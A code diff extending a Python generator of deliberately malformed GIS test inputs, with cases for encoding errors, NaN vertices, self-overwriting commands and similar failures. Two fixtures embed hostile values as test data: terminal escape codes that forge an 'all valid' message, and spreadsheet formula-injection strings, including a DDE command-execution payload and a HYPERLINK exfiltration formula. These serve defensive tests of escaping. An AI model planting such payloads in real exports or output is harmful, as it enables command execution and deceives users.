@@ -710,6 +710,184 @@ def build(out: Path) -> None:
          message=r"tif_not_a_tiff\.tif: cannot be opened as a raster",
          fix="The download failed (an HTML error page was saved); download the raster again.",
          description="an HTML error page saved as .tif")
+    build_nothing_lost(out)
+
+
+# ---------------------------------------------------------------------------------------
+# issue 9 "Nothing lost": inputs that used to crash, or give silently wrong results, and
+# commands whose output would have destroyed an input (run by tests/test_bad_corpus.py)
+# ---------------------------------------------------------------------------------------
+COMMAND_CASES: list[dict] = []
+
+
+def command_case(name, *, files, args, message, fix, exit_code=1, description=""):
+    """Register a whole command line (``{bad}`` is the corpus folder, ``{tmp}`` a fresh
+    empty folder): it must exit ``exit_code`` with ``message``, leave every file of the
+    case byte-identical and write nothing into ``{tmp}``."""
+    COMMAND_CASES.append({"name": name, "files": sorted(files), "args": list(args),
+                          "exit_code": exit_code, "message": message, "fix": fix,
+                          "description": description})
+
+
+def build_nothing_lost(out: Path) -> None:
+    header = ["id", "name_zh", "name_en", "lon", "lat", "LON", "LAT", "piles"]
+    _csv(out / "csv_two_coordinate_pairs.csv", header,
+         [["cha_1", "站1", "Station 1", f"{LON0:.6f}", f"{LAT0:.6f}", f"{LON0 + 0.005:.6f}",
+           f"{LAT0 - 0.003:.6f}", "4"]])
+    case("ambiguous_coordinate_columns", file="csv_two_coordinate_pairs.csv", reader="CSV",
+         kind="charging_stations", args=["--source-crs", "wgs84"], outcome="error",
+         code="read_error", exception="LayerReadError",
+         message=r"csv_two_coordinate_pairs\.csv: ambiguous coordinate columns \('lon', 'lat'\) and "
+                 r"\('LON', 'LAT'\)",
+         fix="Keep one coordinate pair; rename the other (e.g. lon_gcj02, lat_gcj02).",
+         description="lon,lat,LON,LAT: which pair is the position?")
+
+    _csv(out / "csv_utf8_chinese.csv", ["id", "name_zh", "name_en", "lon", "lat", "piles"],
+         [["cha_1", "福田街道", "Futian", f"{LON0:.6f}", f"{LAT0:.6f}", "4"]])
+    case("encoding_gbk_on_utf8_file", file="csv_utf8_chinese.csv", reader="CSV", kind="charging_stations",
+         args=["--source-crs", "wgs84", "--encoding", "gbk"], outcome="error", code="encoding_mismatch",
+         message=r"field 'name_zh': --encoding gbk does not match the file: its text is UTF-8 "
+                 r"Chinese \(e\.g\. '福田街道'\).*drop --encoding",
+         fix="Drop --encoding: the file is UTF-8.",
+         fixed_args=["--source-crs", "wgs84"],
+         description="--encoding gbk given for a UTF-8 file (mojibake before)")
+    case("encoding_typo", file="csv_utf8_chinese.csv", reader="CSV", kind="charging_stations",
+         args=["--source-crs", "wgs84", "--encoding", "gbkk"], outcome="error", code="unknown_encoding",
+         exception="LayerReadError",
+         message=r"--encoding 'gbkk' is not a known text encoding; use one of utf-8, gbk",
+         fix="Spell the encoding: gbk.", fixed_args=["--source-crs", "wgs84", "--encoding", "utf-8"],
+         description="a typo in --encoding (an internal error before)")
+
+    g = _layer("units", 3)
+    g["name_zh"] = ["福田街道", "华强北街道", "香蜜湖街道"]
+    _write(g, out / "shp_gbk_cpg_1252.shp", encoding="gbk")
+    (out / "shp_gbk_cpg_1252.cpg").write_text("1252\n")
+    case("cpg_names_the_wrong_encoding", file="shp_gbk_cpg_1252.shp",
+         files=_shp_files("shp_gbk_cpg_1252"), reader="Shapefile", kind="units", outcome="error",
+         code="encoding_mismatch",
+         message=r"shp_gbk_cpg_1252\.shp: field 'name_zh': the text was decoded as the \.cpg \(1252\) "
+                 r"says, but it is GBK Chinese.*'福田街道'.*--encoding gbk",
+         fix="Write GBK into the .cpg, or pass --encoding gbk.", fixed_args=["--encoding", "gbk"],
+         description="a .cpg saying 1252 on GBK text (the mojibake check did not run with a .cpg)")
+
+    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [LON0, LAT0]},
+               "properties": {"id": "cha_1", "name_zh": "站1", "name_en": "Station 1", "piles": 4,
+                              "geometry": "see drawing 7"}}
+    (out / "geojson_geometry_property.geojson").write_text(json.dumps(
+        {"type": "FeatureCollection", "features": [feature]}, ensure_ascii=False, indent=1) + "\n",
+        encoding="utf-8")
+    case("property_named_geometry", file="geojson_geometry_property.geojson", reader="GeoJSON",
+         kind="charging_stations", outcome="error", code="read_error", exception="LayerReadError",
+         message=r"geojson_geometry_property\.geojson: has an attribute named 'geometry', which "
+                 r"clashes with the geometry column",
+         fix="Rename the attribute (e.g. geometry_note).",
+         description="a property named geometry (silently dropped before)")
+
+    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [LON0, LAT0]},
+               "properties": {"id": "cha_1", "name_zh": "站1\u0000（旧名）", "name_en": "Station 1", "piles": 4}}
+    (out / "geojson_nul_in_value.geojson").write_text(json.dumps(
+        {"type": "FeatureCollection", "features": [feature]}, indent=1) + "\n", encoding="utf-8")
+    case("nul_in_a_value", file="geojson_nul_in_value.geojson", reader="GeoJSON",
+         kind="charging_stations", outcome="error", code="read_error", exception="LayerReadError",
+         message=r"geojson_nul_in_value\.geojson: line \d+ holds a NUL character",
+         fix="Remove the NUL character in the source program.",
+         description="a NUL inside a name (the text was cut there before)")
+
+    ring = [[LON0, LAT0], [LON0 + 0.001, LAT0], [LON0 + 0.001, "NaN"], [LON0, LAT0 + 0.001], [LON0, LAT0]]
+    feature = {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [ring]},
+               "properties": {**_attrs("parks", 1)}}
+    (out / "geojson_nan_vertex.geojson").write_text(json.dumps(
+        {"type": "FeatureCollection", "features": [feature]}, ensure_ascii=False, indent=1
+    ).replace('"NaN"', "NaN") + "\n", encoding="utf-8")
+    case("nan_vertex", file="geojson_nan_vertex.geojson", reader="GeoJSON", kind="parks",
+         outcome="error", code="nonfinite_coordinates",
+         message=r"geojson_nan_vertex\.geojson: feature par_1: geometry has NaN or infinite coordinates",
+         fix="Correct or delete the vertex.",
+         description="a polygon vertex without a number (--fix crashed on it before)")
+
+    shell = _box(0.0, 0.0).exterior.coords  # 1 ha
+    hole = _box(-50.0, -50.0, 200.0, 200.0).exterior.coords  # 4 ha: larger than the shell
+    _write(gpd.GeoDataFrame([_attrs("parks", 1)], geometry=[Polygon(shell, [hole])], crs="EPSG:4547"),
+           out / "gpkg_oversized_hole.gpkg")
+    case("hole_larger_than_shell", file="gpkg_oversized_hole.gpkg", reader="GeoPackage", kind="parks",
+         outcome="error", code="invalid_geometry",
+         message=r"gpkg_oversized_hole\.gpkg: feature par_1: invalid geometry",
+         fix="Delete or shrink the hole; --fix refuses this repair (it would grow the park).",
+         description="a 1 ha park with a 4 ha hole (--fix made it a 3 ha ring before)")
+
+    vals = np.full((10, 10), 120.0)
+    vals[:, :4] = -9999.0
+    _tif(out / "tif_population_fill_no_nodata.tif", vals, transform=_origin(114.02, 22.57, 0.005),
+         crs="EPSG:4326", nodata=None)
+    case("population_fill_value_without_nodata", file="tif_population_fill_no_nodata.tif",
+         reader="GeoTIFF", kind="population", outcome="error", code="population_not_a_count",
+         message=r"tif_population_fill_no_nodata\.tif.*has no nodata value: 40 cell\(s\) hold values "
+                 r"that cannot be people \(-9999.*--nodata -9999",
+         fix="Pass --nodata -9999 (or tag the raster: gdal_edit.py -a_nodata -9999 on a copy).",
+         fixed_args=["--nodata", "-9999"],
+         description="a population raster whose empty cells hold -9999 and no nodata tag")
+
+    esc_id = "u1\x1b[2J\x1b[32mall valid\x1b[0m"
+    g = _layer("units", 3)
+    g["id"] = [esc_id, esc_id, "u3\r\nforged line"]
+    _write(g, out / "gpkg_control_chars_in_ids.gpkg")
+    case("control_characters_in_ids", file="gpkg_control_chars_in_ids.gpkg", reader="GeoPackage",
+         kind="units", outcome="error", code="duplicate_id",
+         message=r"feature u1\\x1b\[2J\\x1b\[32mall valid\\x1b\[0m: field 'id'",
+         fix="Renumber the duplicates; ids are shown escaped, so they cannot drive the terminal.",
+         description="ids with ESC codes (cleared the screen and printed a fake OK before)")
+
+    # ---- whole commands: outputs that would replace an input ------------------------------
+    _write(_layer("charging_stations", 3).to_crs(4326), out / "geojson_stations.geojson")
+    command_case("import_onto_its_input", files=["geojson_stations.geojson"],
+                 args=["import", "{bad}/geojson_stations.geojson", "--kind", "charging_stations",
+                       "-o", "{bad}/geojson_stations.geojson", "--overwrite"],
+                 message=r"geojson_stations\.geojson: is also an input of this command.*nothing was "
+                         r"read or written",
+                 fix="Write the converted layer to another file.",
+                 description="import X -o X (overwrote the original before)")
+    command_case("coverage_gaps_onto_facilities", files=["geojson_stations.geojson"],
+                 args=["coverage", "charging", "--facilities", "{bad}/geojson_stations.geojson",
+                       "--gaps", "{bad}/geojson_stations.geojson", "--overwrite"],
+                 message=r"geojson_stations\.geojson: is also an input of this command",
+                 fix="Write the gaps to another file.",
+                 description="coverage --facilities F --gaps F (replaced the stations with gaps before)")
+    command_case("import_fix_grows_polygon", files=["gpkg_oversized_hole.gpkg"],
+                 args=["import", "{bad}/gpkg_oversized_hole.gpkg", "--kind", "parks", "--fix",
+                       "-o", "{tmp}/parks.gpkg"],
+                 message=r"--fix refuses the repair.*10,000\.0 m² inside the outer ring.*30,000\.0 m² "
+                         r"after the repair",
+                 fix="Redraw the park without the oversized hole.",
+                 description="--fix on a 1 ha park with a 4 ha hole")
+    command_case("import_fix_nan_vertex", files=["geojson_nan_vertex.geojson"],
+                 args=["import", "{bad}/geojson_nan_vertex.geojson", "--kind", "parks", "--fix",
+                       "-o", "{tmp}/parks.gpkg"],
+                 message=r"NaN or infinite coordinates",
+                 fix="Correct or delete the vertex.",
+                 description="--fix on NaN coordinates (an internal error before)")
+    command_case("coverage_population_fill_value", files=["tif_population_fill_no_nodata.tif"],
+                 args=["coverage", "charging", "--population", "{bad}/tif_population_fill_no_nodata.tif"],
+                 message=r"cannot be people.*--nodata -9999",
+                 fix="Pass --nodata -9999.",
+                 description="-9999 counted as people before")
+    command_case("radius_nan", files=[], args=["coverage", "charging", "--radius-m", "nan"],
+                 exit_code=2, message=r"Invalid value for '--radius-m'.*nan is not a number of metres",
+                 fix="Give a finite radius > 0.",
+                 description="--radius-m nan blamed a facility before")
+    command_case("build_out_under_a_file", files=["csv_utf8_chinese.csv"],
+                 args=["build", "--basemap", "none", "--no-png", "--out", "{bad}/csv_utf8_chinese.csv/maps"],
+                 message=r"csv_utf8_chinese\.csv is a file, not a folder",
+                 fix="Choose an output folder that is not inside a file.",
+                 description="build --out under a regular file (an internal error before)")
+    # renewal sites whose field name and values are formulas: target --out must write them inert
+    props = {**_attrs("renewal_sites", 1), "status": "completed", "name_zh": "=cmd|' /C calc'!A0",
+             "name_en": "@SUM(1;2)", '=HYPERLINK("http://example.invalid/?"&A1;"x")': "+1+1"}
+    ring = [[LON0, LAT0], [LON0 + 0.001, LAT0], [LON0 + 0.001, LAT0 + 0.001], [LON0, LAT0 + 0.001],
+            [LON0, LAT0]]
+    (out / "geojson_formula_field_name.geojson").write_text(json.dumps(
+        {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": props,
+         "geometry": {"type": "Polygon", "coordinates": [ring]}}]}, ensure_ascii=False, indent=1) + "\n",
+        encoding="utf-8")
 
 
 def _sha256(path: Path) -> str:
@@ -718,7 +896,7 @@ def _sha256(path: Path) -> str:
 
 def write_manifest(out: Path) -> Path:
     """Write ``cases.json``: the cases plus the sha256 of every corpus file."""
-    for c in CASES:
+    for c in CASES + COMMAND_CASES:
         for f in c["files"]:
             if not (out / f).exists():
                 raise FileNotFoundError(f"case {c['name']}: {f} was not written")
@@ -730,6 +908,7 @@ def write_manifest(out: Path) -> Path:
         "outcomes": {"error": "exit code 1, FutianGISError from futiangis.load",
                      "warning": "exit code 2 with --strict; load succeeds with the warning"},
         "cases": CASES,
+        "commands": COMMAND_CASES,
         "sha256": {p.name: _sha256(p) for p in sorted(out.iterdir())
                    if p.is_file() and p.name not in ("cases.json", "README.md")},
     }
@@ -748,6 +927,7 @@ def main(argv: list[str] | None = None) -> None:
         if p.name != "README.md":
             shutil.rmtree(p) if p.is_dir() else p.unlink()
     CASES.clear()
+    COMMAND_CASES.clear()
     build(out)
     names = [c["name"] for c in CASES]
     assert len(names) == len(set(names)), "duplicate case names"
